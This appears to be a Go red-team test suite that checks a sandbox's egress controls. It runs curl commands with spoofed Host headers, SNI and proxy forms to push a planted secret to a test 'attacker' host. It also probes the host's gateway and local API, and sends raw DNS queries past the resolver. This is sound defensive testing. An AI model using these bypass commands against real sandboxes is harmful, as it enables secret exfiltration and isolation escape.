package redteam

import (
	"fmt"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/cove-dev/cove/internal/sandbox/network/nettest"
	cove "github.com/cove-dev/cove/sdk"
)

// headerSecret is the value of the header rule that TestHeaderRuleExfiltration plants.
const headerSecret = "rt-planted-header-4d2c91"

// ruleFor is egress rules that set header name to value on requests to host.
func ruleFor(host, name, value string) *cove.NetworkRules {
	return &cove.NetworkRules{Rules: map[string][]cove.Rule{host: {{Transform: cove.Transform{Headers: map[string]string{name: value}}}}}}
}

// TestHeaderRuleExfiltration: a sandbox whose header rule puts a secret on requests to
// web.test sends requests that claim to be for web.test (Host header, SNI) to another test
// host: the secret must never arrive there.
func TestHeaderRuleExfiltration(t *testing.T) {
	need(t)
	defer report(t, classHeaderRules)
	other := nettest.New(t) // a host of the attacker's, in another fake internet
	const secret = headerSecret
	sb := sandbox(t, env.keyA, cove.SandboxOptions{Timeout: 5 * time.Minute, Network: ruleFor("web.test", "X-Rt-Secret", secret)})
	if out, code := sh(t, sb, "curl -sS --max-time 5 https://web.test/rt-control", time.Minute); code != 0 {
		t.Logf("control: curl https://web.test/ exited %d: %.200s", code, out)
	}
	control := false
	for _, r := range env.in.Requests() {
		control = control || (r.Path == "/rt-control" && r.Header.Get("X-Rt-Secret") == secret)
	}
	t.Logf("control: the rule put the secret on a request to web.test itself: %v", control)
	to := other.Addr.String()
	attempts := map[string]string{
		"plain HTTP with Host web.test":         "curl -sS --max-time 5 -H 'Host: web.test' http://" + to + "/rt-exfil-host",
		"plain HTTP with Host WEB.TEST:80":      "curl -sS --max-time 5 -H 'Host: WEB.TEST:80' http://" + to + "/rt-exfil-upper",
		"plain HTTP with Host web.test.":        "curl -sS --max-time 5 -H 'Host: web.test.' http://" + to + "/rt-exfil-dot",
		"HTTPS with SNI web.test":               "curl -sS -k --max-time 5 --resolve web.test:443:" + to + " https://web.test/rt-exfil-sni",
		"HTTPS with SNI web.test, Host other":   "curl -sS -k --max-time 5 --resolve web.test:443:" + to + " -H 'Host: " + to + "' https://web.test/rt-exfil-sni-host",
		"an absolute-form request for web.test": "curl -sS --max-time 5 -x http://" + to + ":80 http://web.test/rt-exfil-proxy",
	}
	for _, name := range sortedKeys(attempts) {
		out, code := sh(t, sb, attempts[name], time.Minute)
		t.Logf("%s: curl exited %d: %.120s", name, code, out)
	}
	time.Sleep(500 * time.Millisecond)
	for _, name := range sortedKeys(attempts) {
		path := attempts[name][strings.LastIndex(attempts[name], "/"):]
		leaked := false
		for _, r := range other.Requests() {
			leaked = leaked || (r.Path == path && strings.Contains(fmt.Sprint(r.Header), secret))
		}
		probe(t, classHeaderRules, name, !leaked, "the attacker's host received the secret")
	}
	info, err := sb.Info(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	probe(t, classHeaderRules, "getInfo shows *** for the value", !strings.Contains(fmt.Sprint(info.Network), secret), "getInfo holds the secret")
}

// TestInterceptorDestinations: a sandbox with header rules (its HTTP and HTTPS go through
// Cove's interceptor on the host) dials the host's own addresses on 80 and 443 and names the
// API in a Host header: nothing may reach the host's listeners or the API.
func TestInterceptorDestinations(t *testing.T) {
	need(t)
	defer report(t, classInterceptor)
	sb := sandbox(t, env.keyA, cove.SandboxOptions{Timeout: 5 * time.Minute, Network: ruleFor("web.test", "X-Rt-Rule", "on")})
	gateways := []netip.Addr{env.in.Gateway}
	if out, code := sh(t, sb, "cat /proc/net/route", time.Minute); code == 0 {
		if gw, ok := defaultGateway(out); ok && gw != env.in.Gateway {
			gateways = append(gateways, gw)
		}
	}
	for _, gw := range gateways {
		for _, port := range []string{"80", "443"} {
			c, err := listenCount(net.JoinHostPort(gw.String(), port))
			if err != nil {
				t.Logf("not an address of this host's: %v", err)
				continue
			}
			scheme := map[string]string{"80": "http", "443": "https"}[port]
			out, code := sh(t, sb, fmt.Sprintf("curl -sS -k --max-time 5 %s://%s/rt-host", scheme, gw), time.Minute)
			time.Sleep(200 * time.Millisecond)
			c.l.Close()
			probe(t, classInterceptor, fmt.Sprintf("%s://%s/", scheme, gw), c.n.Load() == 0,
				fmt.Sprintf("the host's listener accepted %d connections (curl exited %d: %.120s)", c.n.Load(), code, out))
		}
	}
	for _, host := range []string{"127.0.0.1:" + env.apiPort, "localhost:" + env.apiPort, "[::1]:" + env.apiPort} {
		out, _ := sh(t, sb, "curl -s -o /dev/null -w '%{http_code}' --max-time 5 -H 'Host: "+host+"' http://web.test/health", time.Minute)
		probe(t, classInterceptor, "Host "+host+" to web.test", strings.TrimSpace(out) != "204", "the API's /health answered (204)")
	}
}

// defaultGateway reads the default route's gateway from /proc/net/route.
func defaultGateway(route string) (netip.Addr, bool) {
	for _, line := range strings.Split(route, "\n")[1:] {
		f := strings.Fields(line)
		if len(f) < 3 || f[1] != "00000000" {
			continue
		}
		var v uint32
		if _, err := fmt.Sscanf(f[2], "%X", &v); err != nil {
			continue
		}
		return netip.AddrFrom4([4]byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)}), true
	}
	return netip.Addr{}, false
}

// dnsQuery asks the resolver at addr for name directly, over UDP, from inside a sandbox.
func dnsQuery(addr netip.Addr, name string) string {
	return fmt.Sprintf(`python3 -c '
import socket
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in "%s".split(".")) + b"\x00\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
try:
    s.sendto(q, ("%s", 53))
    s.recv(512)
except Exception as e:
    print(e)
'`, name, addr)
}

// TestDNS: sandboxes without internet access (allowInternetAccess false, denyOut 0.0.0.0/0)
// ask for names through their resolver and straight at the upstream one: the upstream
// resolver (the server's --network-dns, on a test host) must receive none of them.
func TestDNS(t *testing.T) {
	need(t)
	defer report(t, classDNS)
	open := sandbox(t, env.keyA, cove.SandboxOptions{Timeout: 5 * time.Minute})
	sh(t, open, "getent hosts rt-dns-control.example", time.Minute)
	if env.resolver.asked("rt-dns-control") == 0 {
		t.Fatal("control: an open sandbox's query never reached the test resolver; the DNS class cannot be judged")
	}
	cases := []struct {
		name string
		opts cove.SandboxOptions
	}{
		{"allowInternetAccess false", cove.SandboxOptions{NoInternet: true}},
		{"denyOut 0.0.0.0/0", cove.SandboxOptions{Network: &cove.NetworkRules{DenyOut: []string{"0.0.0.0/0"}}}},
	}
	for i, tc := range cases {
		tc.opts.Timeout = 5 * time.Minute
		sb := sandbox(t, env.keyA, tc.opts)
		queries := map[string]string{
			"a name through the sandbox's resolver":     fmt.Sprintf("getent hosts rt-dns-%d-a.example", i),
			"a name of the test zone":                   fmt.Sprintf("getent hosts rt-dns-%d-b.web.test", i),
			"an AAAA lookup":                            fmt.Sprintf("getent ahostsv6 rt-dns-%d-c.example", i),
			"a query straight at the upstream resolver": dnsQuery(env.in.Other, fmt.Sprintf("rt-dns-%d-d.example", i)),
		}
		for _, q := range sortedKeys(queries) {
			sh(t, sb, queries[q], time.Minute)
		}
		time.Sleep(time.Second)
		for _, q := range sortedKeys(queries) {
			tag := strings.Fields(queries[q])[2]
			if strings.HasPrefix(queries[q], "python3") {
				tag = fmt.Sprintf("rt-dns-%d-d", i)
			} else {
				tag = strings.SplitN(tag, ".", 2)[0]
			}
			n := env.resolver.asked(tag)
			probe(t, classDNS, tc.name+": "+q, n == 0, fmt.Sprintf("the upstream resolver received %d queries for %s", n, tag))
		}
	}
}
